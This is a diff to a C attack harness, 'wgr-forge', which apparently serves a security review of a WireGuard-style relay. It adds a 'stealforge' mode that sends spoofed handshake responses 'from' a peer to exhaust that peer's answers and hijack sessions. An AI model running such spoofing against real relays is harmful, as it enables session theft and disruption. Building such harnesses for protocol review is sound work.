@@ -98,6 +98,13 @@
  * kept alive there) by data spoofed "from" V: the route leads V's initiations
  * back to V (review of 89ac1cf, F1).
  *
+ *   wgr-forge stealforge ADDR PORT V_ADDR V_PORT Q_ADDR Q_PORT PUB_Q PUB_V SECONDS [ANSWERS]
+ *
+ * steal, and every initiation that reaches Z is also answered at once with two
+ * responses naming V spoofed "from" Q: where the relay sent the same initiation
+ * to Q too, Q's endpoint has then given all the answers it may, and Q's own is
+ * refused (review of 8ae0eb7, M1).
+ *
  *   wgr-forge fill ADDR PORT SECONDS PPS BPORT NPORTS PUB_TARGET PUB_NAME...
  *
  * Fills a relay's session table with confirmed pairs of its own, as an insider
@@ -755,7 +762,9 @@ static int spoofstage(int argc, char **argv)
 }
 
 /* wgr-forge steal: see the top of this file. */
-static int steal(int argc, char **argv, bool back)
+enum steal_kind { STEAL_ROAM, STEAL_BACK, STEAL_FORGE };
+
+static int steal(int argc, char **argv, enum steal_kind kind)
 {
 	uint32_t held[HOLD_MAX], s_index, r_index;
 	uint64_t counter = 1u << 20;
@@ -809,7 +818,7 @@ static int steal(int argc, char **argv, bool back)
 			 */
 			for (long i = 0; i < n_held; i++) {
 				make_data(msg, held[i], counter++);
-				if (back)
+				if (kind == STEAL_BACK)
 					spoofer_send(&from_v, msg, 32);
 				else
 					send(z, msg, 32, 0);
@@ -823,6 +832,12 @@ static int steal(int argc, char **argv, bool back)
 			continue;
 		reached++;
 		s_index = get_le32(msg + 4);
+		/* In Q's name, at once: the answers Q's endpoint may give are spent. */
+		for (long i = 0; kind == STEAL_FORGE && i < 2; i++) {
+			make_response(msg, s_index, v);
+			if (spoofer_send(&from_q, msg, 92))
+				return 1;
+		}
 		for (long i = 0; i < answers; i++) {
 			r_index = make_response(msg, s_index, v);
 			send(z, msg, 92, 0);
@@ -1153,8 +1168,12 @@ int main(int argc, char *argv[])
 		return spoof(argc, argv);
 	if (argc >= 2 && !strcmp(argv[1], "spoofstage"))
 		return spoofstage(argc, argv);
-	if (argc >= 2 && (!strcmp(argv[1], "steal") || !strcmp(argv[1], "stealback")))
-		return steal(argc, argv, !strcmp(argv[1], "stealback"));
+	if (argc >= 2 && !strcmp(argv[1], "steal"))
+		return steal(argc, argv, STEAL_ROAM);
+	if (argc >= 2 && !strcmp(argv[1], "stealback"))
+		return steal(argc, argv, STEAL_BACK);
+	if (argc >= 2 && !strcmp(argv[1], "stealforge"))
+		return steal(argc, argv, STEAL_FORGE);
 	if (argc >= 2 && (!strcmp(argv[1], "hold") || !strcmp(argv[1], "holdself"))) {
 		long secs = argc == 8 ? strtol(argv[4], NULL, 10) : 0;
 
